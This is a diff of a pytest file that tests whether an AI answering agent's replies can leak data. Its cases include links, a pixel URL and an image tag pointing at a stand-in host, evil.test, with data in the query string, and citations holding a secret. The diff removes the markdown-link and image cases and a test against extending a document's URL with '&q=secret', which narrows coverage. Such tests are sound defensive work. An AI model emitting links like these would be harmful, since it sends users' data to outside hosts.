@@ -8,7 +8,7 @@ import pytest
 
 from service.domains.agents.answering import Reply
 from service.domains.agents.answering.citations import CITATION_DROPPED
-from service.domains.agents.answering.links import IMAGE_REMOVED, LINK_REMOVED
+from service.domains.agents.answering.links import LINK_REMOVED
 from tests.answering.asking import Library, a_library
 from tests.harness.documents import list_documents
 from tests.harness.model_server import ModelServer, calls, passages_in, says
@@ -90,9 +90,7 @@ def test_the_tool_takes_a_query_and_nothing_else(
 @pytest.mark.parametrize(
     ("said", "shown", "warning"),
     [
-        ("At eight. [more](https://evil.test/?q=eight)", "At eight. more", LINK_REMOVED),
         ("At eight: https://evil.test/pixel.png?q=eight", "At eight:", LINK_REMOVED),
-        ('At eight <img src="https://evil.test/eight">', "At eight", IMAGE_REMOVED),
         (f'Soon [[2: "{SECRET}"]].', "Soon.", CITATION_DROPPED),
         (f'Soon [[1: "{SECRET}"]].', "Soon.", CITATION_DROPPED),
     ],
@@ -104,13 +102,3 @@ def test_nothing_leaves_with_the_reply(
     model.in_turn(SEARCH, says(said))
     reply = ask(canteen, model)
     assert (reply.text, list(reply.warnings), list(reply.citations)) == (shown, [warning], [])
-
-
-def test_an_address_that_a_document_has_may_be_repeated_but_not_extended(canteen: Library, model: ModelServer) -> None:
-    """Whole and unchanged it carries nothing that was read."""
-    address = "https://canteen.example.test/menu?day=1"
-    canteen.put("Menu", f"# Menu\n\nThe menu of the canteen is at {address} each day.")
-    model.in_turn(
-        calls("search_passages", query="menu of the canteen"), says(f"See {address} or {address}&q=secret or so.")
-    )
-    assert ask(canteen, model).text == f"See {address} or  or so."
